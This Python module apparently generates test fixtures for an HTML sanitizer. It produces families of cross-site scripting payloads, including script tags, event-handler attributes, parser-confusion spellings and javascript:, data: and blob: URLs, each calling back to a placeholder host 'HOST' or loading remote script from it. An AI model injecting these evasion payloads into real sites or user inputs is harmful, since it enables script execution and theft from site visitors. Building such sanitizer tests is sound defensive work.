"""Routes to running a script."""

from collections.abc import Iterator

from tests.hostile.families.spelling import HTML_WORDS, mixed_case

CALL = "new Image().src='http://HOST/js'"
_QUOTED = CALL.replace("'", "&#39;")

_NAMED = """
onabort onafterprint onanimationend onanimationstart onauxclick onbeforeinput onbeforeprint onblur oncanplay
onchange onclick oncontextmenu oncopy oncut ondblclick ondrag ondrop onerror onfocus onfocusin onhashchange oninput
oninvalid onkeydown onkeypress onkeyup onload onloadeddata onloadstart onmessage onmousedown onmouseenter
onmouseleave onmousemove onmouseover onpageshow onpaste onplay onpointerdown onpointerenter onpointerover
onpopstate onresize onscroll onscrollend onsearch onselect onsubmit ontoggle ontouchstart ontransitionend
ontransitionrun onunload onwheel
"""
_EVENTS = _NAMED.split()

_LOADING = ("img src=x", "video src=x", "audio src=x", "body", "svg", "iframe", "link rel=stylesheet href=x",
            "input type=image src=x", "object data=x", "embed src=x", "details open", "marquee", "style")  # fmt: skip


def elements() -> Iterator[tuple[str, str]]:
    yield "inline", f"<script>{CALL}</script>"
    yield "outside", "<script src=http://HOST/x.js></script>"
    yield "module", "<script type=module>import 'http://HOST/x.js'</script>"
    yield (
        "importmap",
        '<script type=importmap>{"imports":{"a":"http://HOST/a.js"}}</script><script type=module>import "a"</script>',
    )
    yield "upper", f"<SCRIPT>{CALL}</SCRIPT>"
    yield "mixed", f"<{mixed_case('script')}>{CALL}</{mixed_case('script')}>"
    yield "slash", f"<script/x>{CALL}</script>"
    yield "newline", f"<script\n>{CALL}</script\n>"
    yield "nested", f"<scr<script>ipt>{CALL}</scr</script>ipt>"
    yield "unclosed", f"<script>{CALL}"
    yield "double-open", f"<<script>{CALL}//<</script>"
    yield "svg", f"<svg><script>{CALL}</script></svg>"
    yield "svg-href", "<svg><script href=http://HOST/x.js /></svg>"
    yield (
        "svg-xlink",
        "<svg xmlns:xlink='http://www.w3.org/1999/xlink'><script xlink:href=http://HOST/x.js></script></svg>",
    )
    yield "math", f"<math><mtext><script>{CALL}</script></mtext></math>"
    yield "table", f"<table><tr><script>{CALL}</script><td>x"
    yield "select", f"<select><script>{CALL}</script></select>"
    yield "template", f"<template><script>{CALL}</script></template>"
    yield "shadow", f"<div><template shadowrootmode=open><script>{CALL}</script></template></div>"
    yield "conditional", f"<!--[if true]><script>{CALL}</script><![endif]-->"
    yield "revealed", f"<![if true]><script>{CALL}</script><![endif]>"
    yield (
        "xml",
        f"<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{CALL}</script>",
    )
    yield "cdata", f"<![CDATA[<script>{CALL}</script>]]>"
    yield "null-in-name", f"<scr\0ipt>{CALL}</scr\0ipt>"
    yield "null-before", f"<\0script>{CALL}</script>"
    yield "entity-name", f"&lt;script&gt;{CALL}&lt;/script&gt;"
    yield "attribute", f"<b title='<script>{CALL}</script>'>x</b>"
    yield "alt", f'<img alt="&lt;script>{CALL}&lt;/script>" src=x>'


def events() -> Iterator[tuple[str, str]]:
    for name in _EVENTS:
        yield (
            name,
            f'<div {name}="{_QUOTED}" tabindex=0 autofocus contenteditable style="height:60px;overflow:scroll">x</div>',
        )
    for element in _LOADING:
        for name in ("onload", "onerror", "ontoggle", "onstart", "onfocus"):
            yield (
                f"{element.split()[0]}-{name}",
                f'<{element} {name}="{_QUOTED}" autofocus tabindex=1>x',
            )


def event_spellings() -> Iterator[tuple[str, str]]:
    handler = f'"{_QUOTED}"'
    for label, gap in (
        ("slash", "/"),
        ("tab", "\t"),
        ("feed", "\f"),
        ("newline", "\n"),
        ("slashes", "///"),
        ("none", ""),
    ):
        yield f"gap-{label}", f'<img src="x"{gap}onerror={handler}>'
    yield "upper", f"<IMG SRC=x ONERROR={handler}>"
    yield "spaced", f"<img src=x onerror \n = \n {handler}>"
    yield "backtick", f"<img src=`x` onerror={handler}>"
    yield "broken-quote", f'<img """><img src=x onerror={handler}">'
    yield "quote-in-name", f'<img "=" src=x onerror={handler}>'
    yield "greater-in-value", f'<img title="a>b" src=x onerror={handler}>'
    yield "null", f"<img src=x \0onerror={handler}>"
    yield "twice", f"<img src=x onerror=1 onerror={handler}>"
    yield "close-tag", f"</p onclick={handler}><img src=x onerror={handler}>"
    yield "image-element", f"<image src=x onerror={handler}>"
    yield "unclosed-tag", f"<img src=x onerror={handler} "
    yield "in-comment-end", f"<!--><img src=x onerror={handler}>-->"
    yield "in-comment-bang", f"<!-- --!><img src=x onerror={handler}>-->"
    yield "srcset", f"<img srcset=x onerror={handler}>"
    yield "class-escape", f"<b class='\"><img src=x onerror={handler}>'>x</b>"


def script_addresses() -> Iterator[tuple[str, str]]:
    code = f"javascript:{CALL}"
    places = {
        "iframe": '<iframe src="{}"></iframe>',
        "object": '<object data="{}"></object>',
        "embed": '<embed src="{}">',
        "link": '<a href="{}">x</a>',
        "area": '<img usemap=#m src=x><map name=m><area href="{}"></map>',
        "form": '<form action="{}"><button autofocus>x</button></form>',
        "formaction": '<form><button formaction="{}">x</button></form>',
        "image": '<img src="{}">',
        "background": '<table background="{}"><tr><td>x',
        "body": '<body background="{}">',
        "style": "<div style=\"background:url('{}')\">x</div>",
        "svg-link": '<svg><a xlink:href="{}"><text y=20>x</text></a></svg>',
        "svg-animate": '<svg><a><animate attributeName=href values="{}"/><text y=20>x</text></a></svg>',
        "math-link": '<math href="{}"><mtext>x</mtext></math>',
        "base": '<base href="{}//"><a href="/x">x</a>',
        "refresh": '<meta http-equiv=refresh content="0;url={}">',
        "frameset": '<frameset><frame src="{}"></frameset>',
        "input": '<input type=image src="{}">',
        "track": '<video><track default src="{}"></video>',
        "isindex": '<isindex action="{}" type=submit value=x>',
        "manifest": '<html manifest="{}">',
        "lowsrc": '<img lowsrc="{}" dynsrc="{}">',
        "cite": '<blockquote cite="{}">x</blockquote>',
        "longdesc": '<img longdesc="{}" src=x>',
        "ping": '<a href=# ping="{}">x</a>',
    }
    for place, shape in places.items():
        yield place, shape.replace("{}", code.replace('"', "&quot;"))
    for label, spelled in _script_spellings():
        yield f"frame-{label}", f'<iframe src="{spelled}"></iframe>'
        yield f"link-{label}", f'<a href="{spelled}">x</a>'


def _script_spellings() -> Iterator[tuple[str, str]]:
    yield "upper", f"JAVASCRIPT:{CALL}"
    yield "leading-space", f"  \n javascript:{CALL}"
    yield "tab", f"java\tscript:{CALL}"
    yield "tab-entity", f"java&Tab;script&colon;{CALL}"
    yield "newline", f"java&NewLine;script:{CALL}"
    yield "control", f"&#1;javascript:{CALL}"
    yield "null", f"java\0script:{CALL}"
    yield "soft-hyphen", f"java&shy;script:{CALL}"
    yield "zero-width", f"java&#x200b;script:{CALL}"
    yield "vbscript", f"vbscript:{CALL}"
    yield "data-html", f"data:text/html,<script>{CALL.replace(chr(39), '&#39;')}</script>"
    yield (
        "data-svg",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://HOST/d'/></svg>".replace(
            "'", "&#39;"
        ),
    )
    yield "blob", "blob:http://HOST/x"
    yield "filesystem", "filesystem:http://HOST/x"
    yield "view-source", "view-source:http://HOST/x"
    yield "feed", f"feed:javascript:{CALL}"
    yield "livescript", f"livescript:{CALL}"
    yield "about", f"about:blank#{CALL}"
    for label, spell in HTML_WORDS.items():
        yield f"entities-{label}", spell("javascript:") + CALL


FAMILIES = {
    "script-element": elements,
    "script-event": events,
    "script-event-spelling": event_spellings,
    "script-address": script_addresses,
}
